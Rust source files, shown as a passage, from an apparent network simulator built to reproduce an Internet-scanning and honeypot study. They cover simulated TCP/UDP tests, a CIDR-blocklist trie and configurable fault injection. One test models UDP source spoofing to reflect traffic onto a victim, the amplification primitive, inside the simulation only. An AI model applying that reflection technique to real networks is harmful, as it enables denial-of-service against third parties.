            Box::new(Client::new(SockAddr::new(ip(10, 9, 9, 9), 23))),
        );
        net.run_until(SimTime(10_000));
        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.timed_out && !c.established && !c.refused);
        assert_eq!(net.counters().conn_timeouts, 1);
    }

    #[test]
    fn udp_roundtrip() {
        struct UdpClient {
            dst: SockAddr,
            got: Vec<Vec<u8>>,
        }
        impl Agent for UdpClient {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.udp_send(40_000, self.dst, b"coap?".to_vec());
            }
            fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
                self.got.push(payload.to_vec());
            }
        }
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(23, b"")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(UdpClient {
                dst: SockAddr::new(server_addr, 5683),
                got: Vec::new(),
            }),
        );
        net.run_until(SimTime(10_000));
        let c = net.agent_downcast::<UdpClient>(client).unwrap();
        assert_eq!(c.got, vec![b"COAP?".to_vec()]);
    }

    #[test]
    fn spoofed_udp_reflects_to_victim() {
        // Attacker spoofs the victim's address; the reflector's reply lands
        // on the victim. This is the CoAP/SSDP amplification primitive.
        struct Attacker {
            reflector: SockAddr,
            victim: SockAddr,
        }
        impl Agent for Attacker {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.udp_send_spoofed(self.victim, self.reflector, b"discover".to_vec());
            }
        }
        struct Victim {
            hits: Vec<Vec<u8>>,
        }
        impl Agent for Victim {
            fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
                self.hits.push(payload.to_vec());
            }
        }
        let mut net = net();
        let reflector_addr = ip(10, 0, 0, 1);
        net.attach(reflector_addr, Box::new(Echo::new(23, b"")));
        let victim_id = net.attach(ip(10, 0, 0, 3), Box::new(Victim { hits: Vec::new() }));
        let victim_addr = SockAddr::new(ip(10, 0, 0, 3), 9999);
        net.attach(
            ip(10, 0, 0, 2),
            Box::new(Attacker {
                reflector: SockAddr::new(reflector_addr, 1900),
                victim: victim_addr,
            }),
        );
        net.run_until(SimTime(10_000));
        let v = net.agent_downcast::<Victim>(victim_id).unwrap();
        assert_eq!(v.hits, vec![b"DISCOVER".to_vec()]);
    }

    #[test]
    fn tap_sees_traffic_into_unoccupied_range() {
        struct Recorder {
            flows: Vec<FlowObservation>,
        }
        impl FlowTap for Recorder {
            fn observe(&mut self, obs: &FlowObservation) {
                self.flows.push(obs.clone());
            }
        }
        let mut net = net();
        let tap = net.add_tap(
            "44.0.0.0/8".parse().unwrap(),
            Box::new(Recorder { flows: Vec::new() }),
        );
        // A client probing into the dark /8: nobody answers, but the tap sees
        // the SYN — this is the network telescope mechanism.
        let dark = SockAddr::new(ip(44, 1, 2, 3), 23);
        let client = net.attach(ip(10, 0, 0, 2), Box::new(Client::new(dark)));
        net.run_until(SimTime(10_000));

        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.timed_out);
        let rec = net.tap_downcast_mut::<Recorder>(tap).unwrap();
        assert_eq!(rec.flows.len(), 1);
        let f = &rec.flows[0];
        assert_eq!(f.dst, ip(44, 1, 2, 3));
        assert_eq!(f.dst_port, 23);
        assert_eq!(f.transport, Transport::Tcp);
        assert_eq!(f.tcp_flags, FlowObservation::SYN);
        assert!(f.ttl < 64, "TTL must be decremented by hop count");
    }

    #[test]
    fn faults_cause_timeouts_deterministically() {
        let cfg = SimNetConfig {
            seed: 7,
            fault: FaultPlan {
                drop_chance: 0.5,
                corrupt_chance: 0.0,
                jitter_ms: 0,
            },
            latency: LatencyModel::Fixed(SimDuration::from_millis(10)),
            ..SimNetConfig::default()
        };
        let run = |cfg: SimNetConfig| {
            let mut net = SimNet::new(cfg);
            let server_addr = ip(10, 0, 0, 1);
            net.attach(server_addr, Box::new(Echo::new(23, b"x")));
            let mut clients = Vec::new();
            for i in 0..64u32 {
                clients.push(net.attach(
                    Ipv4Addr::from(0x0b00_0000 + i),
                    Box::new(Client::new(SockAddr::new(server_addr, 23))),
                ));
            }
            net.run_until(SimTime(60_000));
            clients
                .iter()
                .map(|&c| net.agent_downcast::<Client>(c).unwrap().timed_out)
                .collect::<Vec<bool>>()
        };
        let a = run(cfg.clone());
        let b = run(cfg);
        assert_eq!(a, b, "same seed, same outcome");
        let timeouts = a.iter().filter(|&&t| t).count();
        assert!(timeouts > 5 && timeouts < 60, "drop_chance=0.5 must lose some, not all: {timeouts}");
    }

    #[test]
    fn per_pair_latency_is_stable() {
        let m = LatencyModel::default();
        let a = m.one_way(ip(1, 2, 3, 4), ip(5, 6, 7, 8));
        let b = m.one_way(ip(1, 2, 3, 4), ip(5, 6, 7, 8));
        assert_eq!(a, b);
        assert!(a >= SimDuration::from_millis(10));
        assert!(a < SimDuration::from_millis(150));
    }

    #[test]
    #[should_panic(expected = "already occupied")]
    fn double_attach_panics() {
        let mut net = net();
        net.attach(ip(10, 0, 0, 1), Box::new(Echo::new(23, b"")));
        net.attach(ip(10, 0, 0, 1), Box::new(Echo::new(24, b"")));
    }

    #[test]
    fn send_after_close_is_dropped() {
        // Closing removes the connection; any straggler send is a no-op.
        struct Rude {
            dst: SockAddr,
        }
        impl Agent for Rude {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                let conn = ctx.tcp_connect(self.dst);
                ctx.tcp_close(conn);
                ctx.tcp_send(conn, b"too late".to_vec());
            }
        }
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        let server = net.attach(server_addr, Box::new(Echo::new(23, b"")));
        net.attach(
            ip(10, 0, 0, 2),
            Box::new(Rude {
                dst: SockAddr::new(server_addr, 23),
            }),
        );
        net.run_until(SimTime(10_000));
        let s = net.agent_downcast::<Echo>(server).unwrap();
        assert!(s.seen.is_empty());
    }
}
