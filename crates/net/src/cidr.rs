//! CIDR blocks and sets of CIDR blocks.
//!
//! The paper's scans honour the default ZMap blocklist plus the FireHOL
//! European blocklist; the network telescope is a routed /8. Both call for an
//! efficient "is this address covered by any of these prefixes?" structure.
//! [`CidrSet`] is a binary trie on prefix bits: O(32) lookup independent of the
//! number of entries (the ablation bench `cidr_trie` compares this against the
//! naive linear scan).

use std::fmt;
use std::net::Ipv4Addr;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// An IPv4 CIDR block, e.g. `10.0.0.0/8`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Cidr {
    base: u32,
    prefix_len: u8,
}

/// Error parsing or constructing a [`Cidr`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CidrError {
    /// Prefix length above 32.
    PrefixTooLong(u8),
    /// String form was not `a.b.c.d/len`.
    Malformed(String),
}

impl fmt::Display for CidrError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CidrError::PrefixTooLong(l) => write!(f, "prefix length {l} exceeds 32"),
            CidrError::Malformed(s) => write!(f, "malformed CIDR {s:?}"),
        }
    }
}

impl std::error::Error for CidrError {}

impl Cidr {
    /// Create a CIDR block. Host bits below the prefix are masked off.
    pub fn new(addr: Ipv4Addr, prefix_len: u8) -> Result<Self, CidrError> {
        if prefix_len > 32 {
            return Err(CidrError::PrefixTooLong(prefix_len));
        }
        let mask = Self::mask(prefix_len);
        Ok(Cidr {
            base: u32::from(addr) & mask,
            prefix_len,
        })
    }

    /// The all-addresses block `0.0.0.0/0`.
    pub const fn everything() -> Self {
        Cidr {
            base: 0,
            prefix_len: 0,
        }
    }

    /// A single-host /32 block.
    pub fn host(addr: Ipv4Addr) -> Self {
        Cidr {
            base: u32::from(addr),
            prefix_len: 32,
        }
    }

    const fn mask(prefix_len: u8) -> u32 {
        if prefix_len == 0 {
            0
        } else {
            u32::MAX << (32 - prefix_len)
        }
    }

    pub fn contains(&self, addr: Ipv4Addr) -> bool {
        (u32::from(addr) & Self::mask(self.prefix_len)) == self.base
    }

    pub fn first(&self) -> Ipv4Addr {
        Ipv4Addr::from(self.base)
    }

    pub fn last(&self) -> Ipv4Addr {
        Ipv4Addr::from(self.base | !Self::mask(self.prefix_len))
    }

    pub const fn prefix_len(&self) -> u8 {
        self.prefix_len
    }

    /// Number of addresses in the block (2^(32-len), saturating for /0).
    pub fn len(&self) -> u64 {
        1u64 << (32 - self.prefix_len)
    }

    /// CIDR blocks are never empty, but the method pairs with [`Self::len`].
    pub fn is_empty(&self) -> bool {
        false
    }

    /// Iterate all addresses in the block. Intended for small blocks (tests,
    /// honeypot subnets); the scanner uses its own permutation iterator.
    pub fn iter(&self) -> impl Iterator<Item = Ipv4Addr> + '_ {
        let first = self.base as u64;
        (first..first + self.len()).map(|v| Ipv4Addr::from(v as u32))
    }
}

impl fmt::Display for Cidr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}", Ipv4Addr::from(self.base), self.prefix_len)
    }
}

impl FromStr for Cidr {
    type Err = CidrError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (addr, len) = s
            .split_once('/')
            .ok_or_else(|| CidrError::Malformed(s.to_string()))?;
        let addr: Ipv4Addr = addr
            .parse()
            .map_err(|_| CidrError::Malformed(s.to_string()))?;
        let len: u8 = len
            .parse()
            .map_err(|_| CidrError::Malformed(s.to_string()))?;
        Cidr::new(addr, len)
    }
}

/// A set of CIDR blocks with O(32) membership lookup.
///
/// Implemented as a binary trie over address bits, most significant bit first.
/// A node marked `covered` subsumes its entire subtree, so inserting `10.0.0.0/8`
/// after `10.1.0.0/16` collapses the latter.
#[derive(Debug, Clone, Default)]
pub struct CidrSet {
    nodes: Vec<Node>,
    entries: Vec<Cidr>,
}

#[derive(Debug, Clone, Default)]
struct Node {
    covered: bool,
    children: [Option<u32>; 2],
}

impl CidrSet {
    pub fn new() -> Self {
        CidrSet {
            nodes: vec![Node::default()],
            entries: Vec::new(),
        }
    }

    /// Build a set from an iterator of blocks.
    pub fn from_blocks<I: IntoIterator<Item = Cidr>>(blocks: I) -> Self {
        let mut set = CidrSet::new();
        for b in blocks {
            set.insert(b);
        }
        set
    }

    /// Insert a block. Returns `false` if the block was already covered.
    pub fn insert(&mut self, cidr: Cidr) -> bool {
        let mut node = 0usize;
        for depth in 0..cidr.prefix_len {
            if self.nodes[node].covered {
                return false; // already subsumed by a shorter prefix
            }
            let bit = ((cidr.base >> (31 - depth)) & 1) as usize;
            let child = match self.nodes[node].children[bit] {
                Some(c) => c as usize,
                None => {
                    let idx = self.nodes.len() as u32;
                    self.nodes.push(Node::default());
                    self.nodes[node].children[bit] = Some(idx);
                    idx as usize
                }
            };
            node = child;
        }
        if self.nodes[node].covered {
            return false;
        }
        self.nodes[node].covered = true;
        // Covering a node subsumes its subtree; drop the children.
        self.nodes[node].children = [None, None];
        self.entries.push(cidr);
        true
    }

    /// Whether the address is covered by any inserted block.
    pub fn contains(&self, addr: Ipv4Addr) -> bool {
        let v = u32::from(addr);
        let mut node = 0usize;
        for depth in 0..32 {
            if self.nodes[node].covered {
                return true;
            }
            let bit = ((v >> (31 - depth)) & 1) as usize;
            match self.nodes[node].children[bit] {
                Some(c) => node = c as usize,
                None => return self.nodes[node].covered,
            }
        }
        self.nodes[node].covered
    }

    /// The blocks inserted so far (in insertion order, including any that were
    /// later subsumed — the trie answers membership; this list is for display).
    pub fn blocks(&self) -> &[Cidr] {
        &self.entries
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Naive linear-scan membership, kept for the ablation benchmark.
    pub fn contains_linear(&self, addr: Ipv4Addr) -> bool {
        self.entries.iter().any(|c| c.contains(addr))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::ip;

    #[test]
    fn cidr_basics() {
        let c: Cidr = "10.0.0.0/8".parse().unwrap();
        assert!(c.contains(ip(10, 255, 0, 1)));
        assert!(!c.contains(ip(11, 0, 0, 1)));
        assert_eq!(c.first(), ip(10, 0, 0, 0));
        assert_eq!(c.last(), ip(10, 255, 255, 255));
        assert_eq!(c.len(), 1 << 24);
        assert_eq!(c.to_string(), "10.0.0.0/8");
    }

    #[test]
    fn host_bits_masked() {
        let c = Cidr::new(ip(192, 168, 7, 9), 16).unwrap();
        assert_eq!(c.first(), ip(192, 168, 0, 0));
    }

    #[test]
    fn parse_errors() {
        assert!(matches!(
            "1.2.3.4/33".parse::<Cidr>(),
            Err(CidrError::PrefixTooLong(33))
        ));
        assert!(matches!(
            "nonsense".parse::<Cidr>(),
            Err(CidrError::Malformed(_))
        ));
        assert!(matches!(
            "1.2.3/8".parse::<Cidr>(),
            Err(CidrError::Malformed(_))
        ));
    }

    #[test]
    fn everything_covers_all() {
        let c = Cidr::everything();
        assert!(c.contains(ip(0, 0, 0, 0)));
        assert!(c.contains(ip(255, 255, 255, 255)));
    }

    #[test]
    fn set_membership() {
        let mut set = CidrSet::new();
        assert!(set.insert("10.0.0.0/8".parse().unwrap()));
        assert!(set.insert("192.168.0.0/16".parse().unwrap()));
        assert!(set.contains(ip(10, 1, 2, 3)));
        assert!(set.contains(ip(192, 168, 200, 1)));
        assert!(!set.contains(ip(8, 8, 8, 8)));
        assert!(!set.contains(ip(192, 169, 0, 1)));
    }

    #[test]
    fn set_subsumption() {
        let mut set = CidrSet::new();
        assert!(set.insert("10.1.0.0/16".parse().unwrap()));
        assert!(set.insert("10.0.0.0/8".parse().unwrap()));
        // Re-inserting anything under 10/8 is a no-op now.
        assert!(!set.insert("10.1.0.0/16".parse().unwrap()));
        assert!(!set.insert("10.2.3.4/32".parse().unwrap()));
        assert!(set.contains(ip(10, 200, 0, 1)));
    }

    #[test]
    fn set_host_entries() {
        let mut set = CidrSet::new();
        set.insert(Cidr::host(ip(1, 2, 3, 4)));
        assert!(set.contains(ip(1, 2, 3, 4)));
        assert!(!set.contains(ip(1, 2, 3, 5)));
    }

    #[test]
    fn trie_agrees_with_linear() {
        let blocks: Vec<Cidr> = ["10.0.0.0/8", "172.16.0.0/12", "203.0.113.0/24", "5.5.5.5/32"]
            .iter()
            .map(|s| s.parse().unwrap())
            .collect();
        let set = CidrSet::from_blocks(blocks);
        for probe in [
            ip(10, 0, 0, 1),
            ip(172, 16, 0, 1),
            ip(172, 32, 0, 1),
            ip(203, 0, 113, 200),
            ip(203, 0, 114, 1),
            ip(5, 5, 5, 5),
            ip(5, 5, 5, 6),
        ] {
            assert_eq!(set.contains(probe), set.contains_linear(probe), "{probe}");
        }
    }
}
