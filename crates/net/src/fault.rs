//! Fault injection.
//!
//! Adverse network conditions are part of the substrate's contract: the
//! paper's scanner must tolerate loss (ZMap famously scans statelessly and
//! accepts ~2% loss), and the honeypots must survive floods. A [`FaultPlan`]
//! configures probabilistic packet drops, extra latency jitter, and payload
//! corruption, applied uniformly by the simulator. All probabilities are
//! evaluated against the simulator's seeded RNG, so faulty runs are exactly
//! reproducible too.

use serde::{Deserialize, Serialize};

/// Probabilistic fault model applied to every delivered packet.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FaultPlan {
    /// Probability in [0, 1] that a packet is silently dropped.
    pub drop_chance: f64,
    /// Probability in [0, 1] that one octet of a data payload is flipped.
    pub corrupt_chance: f64,
    /// Additional uniformly-distributed latency jitter, in milliseconds.
    pub jitter_ms: u64,
}

impl FaultPlan {
    /// No faults at all (the default).
    pub const NONE: FaultPlan = FaultPlan {
        drop_chance: 0.0,
        corrupt_chance: 0.0,
        jitter_ms: 0,
    };

    /// A lossy-but-usable Internet: 2% drops, 0.1% corruption, 40 ms jitter.
    /// Matches the loss regime ZMap reports for real scans.
    pub const LOSSY: FaultPlan = FaultPlan {
        drop_chance: 0.02,
        corrupt_chance: 0.001,
        jitter_ms: 40,
    };

    /// Validate that probabilities are in range.
    pub fn validate(&self) -> Result<(), String> {
        for (name, p) in [("drop_chance", self.drop_chance), ("corrupt_chance", self.corrupt_chance)] {
            if !(0.0..=1.0).contains(&p) || p.is_nan() {
                return Err(format!("{name} = {p} is not a probability"));
            }
        }
        Ok(())
    }
}

impl Default for FaultPlan {
    fn default() -> Self {
        FaultPlan::NONE
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn presets_valid() {
        FaultPlan::NONE.validate().unwrap();
        FaultPlan::LOSSY.validate().unwrap();
    }

    #[test]
    fn rejects_bad_probabilities() {
        let bad = FaultPlan {
            drop_chance: 1.5,
            ..FaultPlan::NONE
        };
        assert!(bad.validate().is_err());
        let nan = FaultPlan {
            corrupt_chance: f64::NAN,
            ..FaultPlan::NONE
        };
        assert!(nan.validate().is_err());
    }
}
