//! Fault injection: plans, scopes, and schedules.
//!
//! Adverse network conditions are part of the substrate's contract: the
//! paper's scanner must tolerate loss (ZMap famously scans statelessly and
//! accepts ~2% loss), ZGrab retries interrupted application-layer grabs, the
//! honeypots must survive floods, and the CAIDA telescope has collection
//! gaps. A [`FaultPlan`] is the per-packet probabilistic model (drops,
//! corruption, jitter, duplicates, resets, rate-limiting, host churn); a
//! [`FaultSchedule`] composes plans into time-windowed, scoped *phases* —
//! outage windows, ramped loss, per-protocol or per-CIDR brownouts. All
//! probabilities are evaluated against the simulator's seeded RNG (and churn
//! against a pure hash), so faulty runs are exactly reproducible across any
//! worker count.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::cidr::Cidr;
use crate::rng;
use crate::time::SimTime;

/// Probabilistic fault model applied to every matching packet.
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct FaultPlan {
    /// Probability in [0, 1] that a packet is silently dropped. A lost SYN or
    /// SYN-ACK manifests as a client-side timeout; a dropped UDP datagram
    /// simply never arrives. `1.0` is a blackout (see outage phases).
    pub drop_chance: f64,
    /// Probability in [0, 1] that one bit of a UDP payload is flipped.
    pub corrupt_chance: f64,
    /// Additional uniformly-distributed latency jitter, in milliseconds.
    /// Applies to UDP datagrams and established TCP segments; TCP delivery
    /// stays FIFO per connection and direction (see DESIGN.md §11).
    pub jitter_ms: u64,
    /// Probability in [0, 1] that a delivered UDP datagram arrives twice.
    pub duplicate_chance: f64,
    /// Probability in [0, 1], rolled per TCP segment, that the connection is
    /// torn down with a reset delivered to both ends (`on_tcp_reset`).
    pub reset_chance: f64,
    /// Probability in [0, 1] that a SYN is answered by an intermediary
    /// rate-limiter (ICMP unreachable) instead of reaching the host; the
    /// client sees a refusal.
    pub rate_limit_chance: f64,
    /// Fraction in [0, 1] of in-scope hosts that are unreachable ("dark")
    /// during any given churn slot. Which hosts are dark is a pure hash of
    /// (fabric seed, address, slot), so hosts flap deterministically: dark
    /// for a slot, back the next — the transient-churn fault mode.
    pub churn_chance: f64,
    /// Length of one churn slot in milliseconds (default 10 minutes).
    pub churn_period_ms: u64,
}

impl FaultPlan {
    /// No faults at all (the default).
    pub const NONE: FaultPlan = FaultPlan {
        drop_chance: 0.0,
        corrupt_chance: 0.0,
        jitter_ms: 0,
        duplicate_chance: 0.0,
        reset_chance: 0.0,
        rate_limit_chance: 0.0,
        churn_chance: 0.0,
        churn_period_ms: 600_000,
    };

    /// A lossy-but-usable Internet: 2% drops, 0.1% corruption, 40 ms jitter,
    /// plus a whiff of duplicates and mid-grab resets so the retry machinery
    /// has something to recover from. Matches the loss regime ZMap reports
    /// for real scans.
    pub const LOSSY: FaultPlan = FaultPlan {
        drop_chance: 0.02,
        corrupt_chance: 0.001,
        jitter_ms: 40,
        duplicate_chance: 0.001,
        reset_chance: 0.002,
        rate_limit_chance: 0.002,
        churn_chance: 0.0,
        churn_period_ms: 600_000,
    };

    /// Validate that probabilities are in range.
    pub fn validate(&self) -> Result<(), String> {
        for (name, p) in [
            ("drop_chance", self.drop_chance),
            ("corrupt_chance", self.corrupt_chance),
            ("duplicate_chance", self.duplicate_chance),
            ("reset_chance", self.reset_chance),
            ("rate_limit_chance", self.rate_limit_chance),
            ("churn_chance", self.churn_chance),
        ] {
            if !(0.0..=1.0).contains(&p) || p.is_nan() {
                return Err(format!("{name} = {p} is not a probability"));
            }
        }
        if self.churn_chance > 0.0 && self.churn_period_ms == 0 {
            return Err("churn_chance > 0 requires churn_period_ms > 0".into());
        }
        Ok(())
    }
}

impl Default for FaultPlan {
    fn default() -> Self {
        FaultPlan::NONE
    }
}

// Hand-written so absent fields default from [`FaultPlan::NONE`] — notably
// `churn_period_ms` stays 10 minutes, not zero, in sparse hand-written plans.
impl Deserialize for FaultPlan {
    fn from_value(v: &serde::Value) -> Result<Self, serde::DeError> {
        let m = v
            .as_map()
            .ok_or_else(|| serde::value::type_err("map", v, "FaultPlan"))?;
        let mut plan = FaultPlan::NONE;
        macro_rules! field {
            ($name:ident) => {
                if let Some(x) = serde::value::get(m, stringify!($name)) {
                    plan.$name = Deserialize::from_value(x)?;
                }
            };
        }
        field!(drop_chance);
        field!(corrupt_chance);
        field!(jitter_ms);
        field!(duplicate_chance);
        field!(reset_chance);
        field!(rate_limit_chance);
        field!(churn_chance);
        field!(churn_period_ms);
        Ok(plan)
    }
}

/// Which way a packet is travelling relative to the service endpoint.
/// Serializes as the lowercase strings `"both"` / `"forward"` / `"reverse"`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Direction {
    /// Match packets in either direction (the default).
    #[default]
    Both,
    /// Toward the service: SYNs, client→server segments, UDP sender→dst.
    Forward,
    /// From the service back to the client.
    Reverse,
}

impl Direction {
    fn matches(self, packet: Direction) -> bool {
        self == Direction::Both || self == packet
    }
}

impl Serialize for Direction {
    fn to_value(&self) -> serde::Value {
        serde::Value::Str(
            match self {
                Direction::Both => "both",
                Direction::Forward => "forward",
                Direction::Reverse => "reverse",
            }
            .to_string(),
        )
    }
}

impl Deserialize for Direction {
    fn from_value(v: &serde::Value) -> Result<Self, serde::DeError> {
        match v.as_str() {
            Some("both") => Ok(Direction::Both),
            Some("forward") => Ok(Direction::Forward),
            Some("reverse") => Ok(Direction::Reverse),
            Some(other) => Err(serde::DeError::custom(format!(
                "Direction: expected \"both\", \"forward\", or \"reverse\", got {other:?}"
            ))),
            None => Err(serde::value::type_err("string", v, "Direction")),
        }
    }
}

/// Limits a phase to a slice of traffic. An empty scope matches everything.
///
/// Scope is evaluated against the *service endpoint*: the server socket for
/// TCP (so `ports: [23]` follows a Telnet connection in both directions) and
/// the destination socket for UDP datagrams.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct FaultScope {
    /// Only traffic whose service endpoint falls in this block. Serialized
    /// as the human-friendly `"a.b.c.d/len"` string so hand-written schedule
    /// files stay readable.
    pub dst: Option<Cidr>,
    /// Only traffic whose service port is one of these (empty = any port).
    pub ports: Vec<u16>,
    /// Only traffic flowing this way.
    pub direction: Direction,
}

impl FaultScope {
    /// Whether a packet toward/from `service`, flowing `dir`, is in scope.
    pub fn matches(&self, service: crate::addr::SockAddr, dir: Direction) -> bool {
        self.direction.matches(dir)
            && self.dst.map_or(true, |c| c.contains(service.addr))
            && (self.ports.is_empty() || self.ports.contains(&service.port))
    }
}

impl Serialize for FaultScope {
    fn to_value(&self) -> serde::Value {
        use serde::Value;
        Value::Map(vec![
            (
                Value::Str("dst".into()),
                match self.dst {
                    Some(c) => Value::Str(c.to_string()),
                    None => Value::Null,
                },
            ),
            (Value::Str("ports".into()), self.ports.to_value()),
            (Value::Str("direction".into()), self.direction.to_value()),
        ])
    }
}

impl Deserialize for FaultScope {
    fn from_value(v: &serde::Value) -> Result<Self, serde::DeError> {
        use serde::{value, DeError, Value};
        let m = v.as_map().ok_or_else(|| value::type_err("map", v, "FaultScope"))?;
        let dst = match value::get(m, "dst") {
            None | Some(Value::Null) => None,
            Some(Value::Str(s)) => Some(
                s.parse::<Cidr>()
                    .map_err(|e| DeError::custom(format!("FaultScope.dst: {e}")))?,
            ),
            Some(other) => return Err(value::type_err("CIDR string", other, "FaultScope")),
        };
        let ports = match value::get(m, "ports") {
            Some(x) => Deserialize::from_value(x)?,
            None => Vec::new(),
        };
        let direction = match value::get(m, "direction") {
            Some(x) => Direction::from_value(x)?,
            None => Direction::Both,
        };
        Ok(FaultScope { dst, ports, direction })
    }
}

/// Linear multiplier on `drop_chance` across a phase's window: `start` at
/// `from_ms`, `end` at `to_ms`. Models links that degrade (or recover)
/// gradually instead of failing outright.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Ramp {
    pub start: f64,
    pub end: f64,
}

/// One time-windowed, scoped application of a [`FaultPlan`].
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct FaultPhase {
    /// Label for reports and error messages.
    #[serde(default)]
    pub name: String,
    /// Start of the active window in sim-time ms (`None` = from the start).
    #[serde(default)]
    pub from_ms: Option<u64>,
    /// End of the active window, exclusive (`None` = until the end).
    #[serde(default)]
    pub to_ms: Option<u64>,
    /// Which traffic the phase applies to.
    #[serde(default)]
    pub scope: FaultScope,
    /// The fault probabilities while active.
    #[serde(default)]
    pub plan: FaultPlan,
    /// Optional linear ramp on `drop_chance` across the window.
    #[serde(default)]
    pub ramp: Option<Ramp>,
}

impl FaultPhase {
    /// The active window with open ends resolved.
    pub fn window(&self) -> (u64, u64) {
        (self.from_ms.unwrap_or(0), self.to_ms.unwrap_or(u64::MAX))
    }

    /// Whether the phase is active at `t`.
    #[inline]
    pub fn active_at(&self, t: SimTime) -> bool {
        let (from, to) = self.window();
        t.0 >= from && t.0 < to
    }

    /// The effective drop probability at `t` (ramp applied, clamped to 1).
    pub fn drop_chance_at(&self, t: SimTime) -> f64 {
        match self.ramp {
            None => self.drop_chance_clamped(),
            Some(r) => {
                let (from, to) = self.window();
                // validate() guarantees ramped phases have finite windows.
                let frac = (t.0.saturating_sub(from)) as f64 / (to - from).max(1) as f64;
                let mult = r.start + (r.end - r.start) * frac;
                (self.plan.drop_chance * mult).clamp(0.0, 1.0)
            }
        }
    }

    fn drop_chance_clamped(&self) -> f64 {
        self.plan.drop_chance.min(1.0)
    }

    /// A blackout: every matching packet is dropped while active.
    pub fn is_outage(&self) -> bool {
        self.plan.drop_chance >= 1.0 && self.ramp.is_none()
    }
}

/// A scripted sequence of fault phases. The empty schedule (the default) is
/// the fault-free fast path: the fabric checks `is_none()` once per packet
/// and skips all fault logic.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct FaultSchedule {
    #[serde(default)]
    pub phases: Vec<FaultPhase>,
}

impl FaultSchedule {
    /// No faults at all (the default).
    pub fn none() -> Self {
        FaultSchedule::default()
    }

    /// One always-on, unscoped phase applying `plan` uniformly — the shape of
    /// the old static fault model.
    pub fn uniform(plan: FaultPlan) -> Self {
        if plan == FaultPlan::NONE {
            return FaultSchedule::none();
        }
        FaultSchedule {
            phases: vec![FaultPhase {
                name: "uniform".into(),
                plan,
                ..FaultPhase::default()
            }],
        }
    }

    /// [`FaultPlan::LOSSY`] applied uniformly for the whole run.
    pub fn lossy() -> Self {
        let mut s = FaultSchedule::uniform(FaultPlan::LOSSY);
        s.phases[0].name = "lossy".into();
        s
    }

    /// A deliberately nasty but survivable schedule exercising every fault
    /// kind: baseline loss, a ramped scan-window brownout, a six-hour
    /// blackout during the honeypot month, Telnet-scoped host churn through
    /// the scan, and forward-path rate limiting.
    pub fn hostile() -> Self {
        const DAY: u64 = 86_400_000;
        FaultSchedule {
            phases: vec![
                FaultPhase {
                    name: "baseline".into(),
                    plan: FaultPlan {
                        drop_chance: 0.02,
                        corrupt_chance: 0.001,
                        jitter_ms: 40,
                        duplicate_chance: 0.002,
                        reset_chance: 0.002,
                        rate_limit_chance: 0.003,
                        ..FaultPlan::NONE
                    },
                    ..FaultPhase::default()
                },
                FaultPhase {
                    name: "scan-brownout".into(),
                    from_ms: Some(3 * DAY),
                    to_ms: Some(3 * DAY + 8 * 3_600_000),
                    plan: FaultPlan {
                        drop_chance: 0.5,
                        ..FaultPlan::NONE
                    },
                    ramp: Some(Ramp {
                        start: 0.2,
                        end: 1.0,
                    }),
                    ..FaultPhase::default()
                },
                FaultPhase {
                    name: "month-outage".into(),
                    from_ms: Some(35 * DAY),
                    to_ms: Some(35 * DAY + 6 * 3_600_000),
                    plan: FaultPlan {
                        drop_chance: 1.0,
                        ..FaultPlan::NONE
                    },
                    ..FaultPhase::default()
                },
                FaultPhase {
                    name: "telnet-churn".into(),
                    to_ms: Some(31 * DAY),
                    scope: FaultScope {
                        ports: vec![23, 2323],
                        ..FaultScope::default()
                    },
                    plan: FaultPlan {
                        churn_chance: 0.08,
                        churn_period_ms: 600_000,
                        ..FaultPlan::NONE
                    },
                    ..FaultPhase::default()
                },
                FaultPhase {
                    name: "rate-limiters".into(),
                    from_ms: Some(DAY),
                    to_ms: Some(20 * DAY),
                    scope: FaultScope {
                        direction: Direction::Forward,
                        ..FaultScope::default()
                    },
                    plan: FaultPlan {
                        rate_limit_chance: 0.01,
                        ..FaultPlan::NONE
                    },
                    ..FaultPhase::default()
                },
            ],
        }
    }

    /// A named preset (`none` / `lossy` / `hostile`), if `name` is one.
    pub fn by_name(name: &str) -> Option<FaultSchedule> {
        match name {
            "none" => Some(FaultSchedule::none()),
            "lossy" => Some(FaultSchedule::lossy()),
            "hostile" => Some(FaultSchedule::hostile()),
            _ => None,
        }
    }

    /// The fault-free fast path: no phases at all.
    #[inline]
    pub fn is_none(&self) -> bool {
        self.phases.is_empty()
    }

    /// Validate every phase: probabilities in range, windows the right way
    /// round, ramps finite and windowed, and no two overlapping outage
    /// (blackout) windows — overlapping total outages are invariably a
    /// schedule-authoring mistake.
    pub fn validate(&self) -> Result<(), String> {
        for (i, p) in self.phases.iter().enumerate() {
